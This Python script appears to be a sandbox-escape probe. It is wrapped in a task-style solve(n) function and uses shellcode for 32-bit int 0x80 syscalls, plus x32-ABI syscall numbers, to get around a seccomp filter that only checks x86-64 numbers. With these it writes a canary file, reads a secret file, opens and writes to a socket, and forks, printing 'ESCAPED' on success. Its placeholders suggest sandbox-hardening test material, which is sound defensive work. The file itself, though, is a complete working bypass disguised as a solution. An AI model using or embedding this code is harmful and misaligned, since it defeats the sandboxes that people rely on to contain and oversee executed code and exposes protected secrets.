# the 32-bit and x32 tables of system calls, which a filter for x86-64 numbers does not see: opens, forks, sockets
import ctypes, os, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
# push rbx ; mov eax,edi ; mov ebx,esi ; xchg ecx,edx ; int 0x80 ; pop rbx ; ret
CODE = bytes.fromhex("5389f889f387d1cd805bc3")
def solve(n):
    low = libc.mmap(None, 8192, 7, 0x22 | 0x40, -1, 0)
    ctypes.memmove(low, CODE, len(CODE))
    old = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_uint, ctypes.c_uint, ctypes.c_uint, ctypes.c_uint)(low)
    data = low + 4096
    path = b"@CANARY@/cohort-canary-int80\0"
    ctypes.memmove(data, path, len(path))
    fd = old(5, data, os.O_CREAT | os.O_WRONLY, 0o644)
    print("open by int 0x80:", fd, "ESCAPED" if fd >= 0 else "")
    secret = b"@SECRET_FILE@\0"
    ctypes.memmove(data, secret, len(secret))
    fd = old(5, data, os.O_RDONLY, 0)
    if fd >= 0:
        print(os.read(fd, 1000))
    address = struct.pack("<H", socket.AF_INET) + struct.pack("!H", int("@PORT@")) + bytes([127, 0, 0, 1]) + bytes(8)
    ctypes.memmove(data, address, len(address))
    for kind, sock in (("int80", old(359, 2, 1, 0)), ("x32", libc.syscall(0x40000000 | 41, 2, 1, 0))):
        if sock >= 0:
            print(kind, "socket", sock)
            if old(362, sock, data, 16) == 0:
                os.write(sock, b"@MARKER@")
                print("ESCAPED", kind)
    pid = old(2, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    print("fork by int 0x80:", pid)
    return n
